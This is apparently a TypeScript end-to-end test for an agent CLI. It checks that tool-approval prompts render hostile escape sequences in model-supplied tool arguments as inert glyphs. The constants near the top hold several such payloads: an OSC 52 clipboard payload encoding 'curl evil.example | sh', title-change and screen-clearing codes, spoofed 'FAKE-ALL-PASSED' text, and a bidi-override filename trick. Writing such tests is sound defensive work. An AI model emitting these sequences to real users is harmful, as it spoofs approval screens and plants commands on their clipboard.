// The person's terminal while a model asks for approval: `cadre run` on a real terminal (tmux, with
// util-linux `script` between them recording every byte the program wrote), the real SDK and the
// fake Messages API. The model's Bash command, a Write's path and content, and a WebFetch URL are
// full of escape sequences (OSC 52 clipboard, window title, clear screen, cursor moves) and a
// bidirectional override. The prompt shows them as inert glyphs, and none of those sequences
// reaches the terminal as bytes.
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  startFakeAnthropic,
  textReply,
  toolResults,
  toolUseReply,
  type FakeAnthropic,
} from '../../support/fake-anthropic.js';
import { CLI } from '../../support/cli.js';
import { tempProject } from '../../support/project.js';
import { TmuxSession } from '../../support/tmux.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const TITLE = '\x1b]0;PWNED-TITLE\x07';
const CLEAR = '\x1b[2J\x1b[H';
const MOVE = '\x1b[5;1H';
const BIDI = '\u202e';
const HOSTILE = `${OSC52}${TITLE}${CLEAR}${MOVE}FAKE-ALL-PASSED ${BIDI}txt.exe`;
/** What must never reach the terminal raw. */
const RAW = ['\x1b]52', '\x1b]0;PWNED', '\x1b[2J', '\x1b[5;1H', BIDI];

let server: FakeAnthropic;
let tmux: TmuxSession | undefined;
let project: Awaited<ReturnType<typeof tempProject>>;

beforeAll(async () => {
  project = await tempProject({ 'README.md': '# demo\n' });
  server = await startFakeAnthropic({
    responder: (req) => {
      if (toolResults(req.body).length === 0)
        return toolUseReply([
          { name: 'Bash', input: { command: `echo hi ${HOSTILE}`, description: `look ${HOSTILE}` } },
          { name: 'Write', input: { file_path: `notes-${TITLE}.txt`, content: `line ${HOSTILE}\n` } },
          { name: 'WebFetch', input: { url: `https://example.com/${OSC52}`, prompt: `read ${HOSTILE}` } },
        ]);
      return textReply('all refused');
    },
  });
});
afterEach(async () => {
  await tmux?.close();
  tmux = undefined;
});
afterAll(async () => {
  await server.close();
  await project.cleanup();
});

describe('approval prompts on a terminal', () => {
  it('show escape sequences and bidi overrides in model input as inert glyphs, and write none of them', async () => {
    const bytes = path.join(project.home, 'typescript');
    const command = [process.execPath, CLI, 'run', 'general-purpose', 'go', '--cwd', project.dir]
      .map((a) => `'${a.replace(/'/g, `'\\''`)}'`)
      .join(' ');
    tmux = await TmuxSession.start(['script', '-qfec', command, bytes], {
      cwd: project.dir,
      env: { HOME: project.home, ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: server.url },
      width: 200,
      height: 50,
    });
    const prompts: string[] = [];
    for (;;) {
      const screen = await tmux.waitFor(/^ {2}\[y\] allow once|\[exit \d+\]/m);
      if (/\[exit \d+\]/.test(screen)) break;
      prompts.push(screen);
      const head = /wants to [^\n]*/.exec(screen)?.[0] ?? '';
      await tmux.key('n');
      // Wait until this prompt is gone (the next head, in its own key grace, shows no live keys, or
      // another head shows), not a fixed 400 ms: a loaded machine can redraw later than that, and
      // the same prompt would be counted, and answered, twice.
      for (let i = 0; i < 200; i++) {
        const now = await tmux.screen();
        if (!/^ {2}\[y\] allow once/m.test(now) || !now.includes(head)) break;
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(prompts.length).toBeLessThan(5);
    }
    const all = prompts.join('\n');
    expect(all).toMatch(/wants to run Bash/);
    expect(all).toMatch(/wants to create/);
    expect(all).toMatch(/wants to fetch example\.com/);
    expect(all).toContain('\u241b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==');
    expect(all).toContain('\u241b]0;PWNED-TITLE');
    expect(all).toContain('\u241b[2J');
    expect(all).toContain('<U+202E>txt.exe');
    // Nothing the model wrote moved the cursor over the prompt or cleared it.
    for (const p of prompts) expect(p).toMatch(/why: /);
    const written = await readFile(bytes, 'utf8');
    for (const seq of RAW) expect(written, JSON.stringify(seq)).not.toContain(seq);
    expect(written).toContain('FAKE-ALL-PASSED');
  });
});
